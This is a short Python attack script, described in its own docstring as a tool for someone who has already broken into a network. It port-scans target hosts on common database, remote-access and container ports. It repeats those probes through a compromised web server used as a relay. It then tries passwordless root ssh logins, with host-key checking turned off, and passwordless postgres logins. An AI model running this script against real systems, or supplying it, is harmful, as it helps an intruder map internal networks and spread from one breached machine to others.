"""Somebody who got into the network, once: python3 attack.py BROKEN HOST... looks for open ports on the hosts, tries
their databases and their ssh, and looks again from the web server BROKEN, which connects wherever it is told to."""

import http.client
import socket
import subprocess
import sys

PORTS = (21, 22, 23, 25, 80, 139, 443, 445, 1433, 2375, 3306, 3389, 5432, 6379, 8080, 9200)


def look(address: str, port: int) -> str:
    try:
        with socket.create_connection((address, port), timeout=1):
            return "open"
    except OSError as error:
        return str(error)


def look_from(broken: str, address: str, port: int) -> str:
    link = http.client.HTTPConnection(broken, 80, timeout=5)
    try:
        link.request("GET", f"/to/{address}:{port}")
        return f"{broken} says {link.getresponse().status}"
    except (OSError, http.client.HTTPException) as error:
        return str(error)
    finally:
        link.close()


def try_to_get_in(address: str) -> None:
    ssh = ["ssh", "-n", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "ConnectTimeout=2"]
    for command in ([*ssh, f"root@{address}", "id"], ["psql", "-w", "-h", address, "-U", "postgres", "-c", "select 1"]):
        done = subprocess.run(command, capture_output=True, text=True, check=False)
        print(f"{' '.join(command)}: {done.stderr.strip() or done.stdout}", flush=True)


def main() -> None:
    broken, hosts = sys.argv[1], sys.argv[2:]
    for host in hosts:
        address = socket.gethostbyname(host)
        for port in PORTS:
            print(f"{host}:{port} {look(address, port)}, {look_from(broken, address, port)}", flush=True)
        try_to_get_in(address)


main()
